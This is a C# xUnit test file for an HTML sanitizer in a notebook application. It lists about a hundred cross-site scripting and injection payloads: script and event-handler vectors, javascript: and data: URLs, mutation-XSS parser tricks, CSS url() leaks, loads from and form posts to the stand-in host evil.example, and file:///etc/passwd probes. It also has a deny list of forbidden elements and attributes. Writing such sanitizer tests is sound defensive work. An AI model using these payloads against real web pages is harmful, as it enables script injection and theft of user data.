using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Descent.Notebooks.Book;

namespace Descent.Notebooks.Tests.Book;

public class SanitizerTests
{
    /// <summary>Ways to run or load something: scripts, handlers, addresses, styles, frames, forms, parsers that read the same text differently.</summary>
    public static TheoryData<string> Attacks =>
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script type=module>import('//evil.example')</script>",
        "<script type='text/javascript' class='descent-payload'>alert(1)</script>",
        "<script type='application/json' class='descent-payload'>{\"a\":</script>",
        "<script type=' application/json' class='descent-payload'>{}</script>",
        "<script type='application/json'>{}</script>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><script type='application/json' class='descent-payload'>{}</script></svg>",
        "<svg onload=alert(1)>",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><set attributeName=href to=javascript:alert(1)>",
        "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'/></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<math href='javascript:alert(1)'>x</math>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
        "<img src=x onerror=alert(1)>",
        "<img src=x OnErRoR=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img src='javascript:alert(1)'>",
        "<img src='https://evil.example/pixel.png'>",
        "<img src='//evil.example/pixel.png'>",
        "<img src='\\\\evil.example\\share\\pixel.png'>",
        "<img src='/etc/passwd'>",
        "<img src='file:///etc/passwd'>",
        "<img src='data:text/html,<script>alert(1)</script>'>",
        "<img srcset='https://evil.example/a.png 1x'>",
        "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
        "<body onload=alert(1)>",
        "<body background='https://evil.example/x'>",
        "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href=' javascript:alert(1)'>x</a>",
        "<a href='java\nscript:alert(1)'>x</a>",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<a href='&#1;javascript:alert(1)'>x</a>",
        "<a href='&#106;avascript&colon;alert(1)'>x</a>",
        "<a href='JaVaScRiPt:alert(1)'>x</a>",
        "<a href='vbscript:msgbox(1)'>x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
        "<a href='blob:x'>x</a>",
        "<a href='file:///etc/passwd'>x</a>",
        "<a href='#x' ping='https://evil.example' onclick=alert(1)>x</a>",
        "<area href='javascript:alert(1)'>",
        "<iframe src='javascript:alert(1)'></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data='x.swf'><param name=a></object>",
        "<embed src='x.swf'>",
        "<applet code=x></applet>",
        "<base href='https://evil.example/'>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<meta http-equiv='Content-Security-Policy' content=\"script-src *\">",
        "<link rel=stylesheet href='https://evil.example/x.css'>",
        "<link rel=import href='x'>",
        "<style>@import 'https://evil.example/x.css'</style>",
        "<style>*{background:url(https://evil.example)}</style>",
        "<p style='background:url(https://evil.example/x)'>x</p>",
        "<p style='background-color:red;background-image:url(x)'>x</p>",
        "<p style='width:expression(alert(1))'>x</p>",
        "<p style='color:\\75 rl(x)'>x</p>",
        "<p style='color:re/**/d;width:url/**/(x)'>x</p>",
        "<p style='list-style-type:image-set(\"x\" 1x)'>x</p>",
        "<p style='position:fixed;inset:0;z-index:9'>x</p>",
        "<p style='margin-top:-100vh'>x</p>",
        "<p style='width:calc(1px + attr(x))'>x</p>",
        "<form action='https://evil.example'><input type=submit></form>",
        "<button formaction='javascript:alert(1)'>x</button>",
        "<input type=image src='https://evil.example/x.png' onerror=alert(1)>",
        "<input type=password name=p>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)><option>x</select>",
        "<details open ontoggle=alert(1)>x</details>",
        "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
        "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
        "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
        "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml-stylesheet href='javascript:alert(1)'?>",
        "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
        "<p title=`><img src=x onerror=alert(1)>`>x</p>",
        "<p data-x\"onclick=alert(1)>x</p>",
        "<p x onclick\0=alert(1)>x</p>",
        "<im\0g src=x onerror=alert(1)>",
        "<div contenteditable onblur=alert(1) accesskey=x popover>x</div>",
        "<dialog open onclose=alert(1)>x</dialog>",
        "<x-y is=evil onclick=alert(1)>x</x-y>",
        "<table background='https://evil.example/x'><td background=x>",
        "</div></div></main></body><img src=x onerror=alert(1)>",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Nothing_of_an_attack_can_run_or_load(string html)
    {
        var safe = Safe(html);
        var page = new HtmlParser(new() { IsScripting = true }).ParseDocument("<!doctype html><body><div id=cell>" + safe + "</div>");
        Harmless.Assert(page.All.Where(e => e.Id != "cell"));
        Assert.True(page.Body!.Children.Length == 1, "the output leaves its place");
        Assert.DoesNotContain("evil.example", string.Concat(page.All.SelectMany(e => e.Attributes).Where(a => a.Name != "title").Select(a => a.Value)));
    }

    [Theory]
    [MemberData(nameof(Attacks))]
    public void What_is_safe_stays_as_it_is_when_cleaned_again(string html) => Assert.Equal(Safe(html), Safe(Safe(html)!));

    [Theory]
    [InlineData("<p style=\"color:red;text-align:right\">a <b>b</b> &amp; c</p>")]
    [InlineData("<table class=\"dni-table\"><tbody><tr><td colspan=\"2\">1</td></tr></tbody></table>")]
    [InlineData("<details open=\"\"><summary>s</summary><div>x</div></details>")]
    [InlineData("<label for=\"o-a\">n</label><input id=\"o-a\" type=\"range\" min=\"0\" max=\"9\" value=\"3\"><output for=\"o-a\">3</output>")]
    [InlineData("<select name=\"p\"><option value=\"1\" selected=\"\">a</option></select><button type=\"button\">b</button>")]
    [InlineData("<a href=\"https://example.org/?a=1&amp;b=2\">x</a><a href=\"mailto:a@b.example\">y</a>")]
    [InlineData("<img alt=\"dot\" src=\"data:image/png;base64,iVBORw0KGgo=\">")]
    [InlineData("<div class=\"descent-figure\" data-figure=\"k\" data-plotly=\"full\" role=\"img\" aria-label=\"a &quot;b&quot;\"></div>")]
    [InlineData("<script type=\"application/json\" class=\"descent-payload\">{\"a\":[1,\"\\u003c/script>\"]}</script>")]
    public void What_is_only_for_reading_and_setting_stays(string html) =>
        Assert.Equal(html, new Sanitizer("o-", url => url).Html(html.Replace("\"o-a", "\"a")));

    [Theory]
    [InlineData("{\"a\":\"<b>\"}", "<script type=\"application/json\" class=\"descent-payload\">{\"a\":\"\\u003cb>\"}</script>")]
    [InlineData("{\"a\":\"<!--<script>\"}", "")]
    [InlineData("alert(1)", "")]
    public void A_payload_is_json_that_cannot_end_its_own_script(string json, string safe) =>
        Assert.Equal(safe, Safe($"<script type=application/json class=descent-payload>{json}</script>"));

    [Fact]
    public void Ids_and_what_refers_to_them_get_a_name_of_their_own() =>
        Assert.Equal("<p id=\"out-1-1-Plotly\"><a href=\"#out-1-1-x\">x</a></p>", new Sanitizer("out-1-1-", _ => null).Html("<p id=Plotly><a href='#x'>x</a></p>"));

    [Fact]
    public void Too_many_elements_and_deep_nesting_end_neither_the_stack_nor_patience()
    {
        Assert.Null(Safe(string.Concat(Enumerable.Repeat("<b>x</b>", 20_000))));
        Assert.Null(Safe(string.Concat(Enumerable.Repeat("<div>", 100_000))));
        Assert.NotNull(Safe(string.Concat(Enumerable.Repeat("<p>", 5_000))));
        Assert.Contains("x", Safe(string.Concat(Enumerable.Repeat("<div>", 190)) + "x"));
    }

    static string? Safe(string html) => new Sanitizer("", _ => null).Html(html);
}

/// <summary>What no element of a stranger may be or have.</summary>
static class Harmless
{
    static readonly string[] Forbidden = ["iframe", "frame", "object", "embed", "applet", "base", "meta", "link", "style", "form", "svg", "math", "template", "video", "audio", "source", "dialog", "noscript"];

    public static void Assert(IEnumerable<IElement> elements)
    {
        foreach (var element in elements.Where(e => e.LocalName is not ("html" or "head" or "body")))
        {
            Xunit.Assert.DoesNotContain(element.LocalName, Forbidden);
            Xunit.Assert.True(element.LocalName != "script" || element.GetAttribute("type") == "application/json", element.OuterHtml);
            Xunit.Assert.All(element.Attributes, a => Xunit.Assert.False(a.Name.StartsWith("on") || a.Name is "srcdoc" or "srcset" or "formaction" or "action" or "ping" or "background" or "autofocus" or "popover", element.OuterHtml));
            foreach (var name in (string[])["href", "src"])
                if (element.GetAttribute(name) is { } url)
                    Xunit.Assert.Matches("^(https?:|mailto:|data:image/(png|jpeg|gif|webp|svg\\+xml);base64,|[^:]*$)", url);
            if (element.GetAttribute("style") is { } style)
                Xunit.Assert.DoesNotMatch("url|image|expression|position|attr|\\\\|-1|/\\*", style);
        }
    }
}
